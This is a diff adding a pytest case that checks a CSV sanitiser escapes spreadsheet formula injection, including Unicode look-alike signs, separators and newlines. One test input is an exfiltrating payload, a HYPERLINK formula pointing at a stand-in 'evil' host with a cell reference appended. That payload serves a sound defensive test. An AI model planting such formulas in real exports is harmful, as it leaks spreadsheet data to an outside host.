@@ -37,6 +37,29 @@ class TestCsv:
         assert harmless(f"{start}1+1") == f"'{start}1+1"
         assert harmless(f"a{start}1") == f"a{start}1"
 
+    @pytest.mark.parametrize(
+        ("text", "told"),
+        [
+            (" =1+1", "' =1+1"),
+            ('"=1+1', "'\"=1+1"),
+            ("\uff1d1+1", "'\uff1d1+1"),  # full-width
+            ("\ufe641+1", "\ufe641+1"),  # small less-than begins nothing
+            ("\u207a1", "'\u207a1"),  # superscript
+            ("=\u03381", "'=\u03381"),  # with a stroke it is one letter to NFKC, but not to everybody
+            ("\u3000-1", "'\u3000-1"),  # ideographic space
+            ('x;=HYPERLINK("https://evil/?"&A2,"ok")', 'x;\'=HYPERLINK("https://evil/?"&A2,"ok")'),
+            ('x;"=1+1;y', "x;'\"=1+1;y"),
+            ("a;b;c", "a;b;c"),
+            ("a;;@b|-c\t+d", "a;;'@b|'-c\t'+d"),
+            ("a\n=1\r\n=2", "a\n'=1\r'\n'=2"),
+            ("1 - 2 = 3, e@mail.example", "1 - 2 = 3, e@mail.example"),
+            ("", ""),
+            (None, ""),
+        ],
+    )
+    def test_begins_no_formula_anywhere_and_stays_readable(self, text: str | None, told: str) -> None:
+        assert harmless(text) == told
+
     @pytest.mark.parametrize(("currency", "amount"), [("EUR", "-2.00"), ("JPY", "-200"), ("KWD", "-0.200")])
     def test_leaves_a_negative_amount_a_number(self, currency: str, amount: str) -> None:
         line = csv_form(_statement(-200, currency=currency)).decode().split("\r\n")[2]
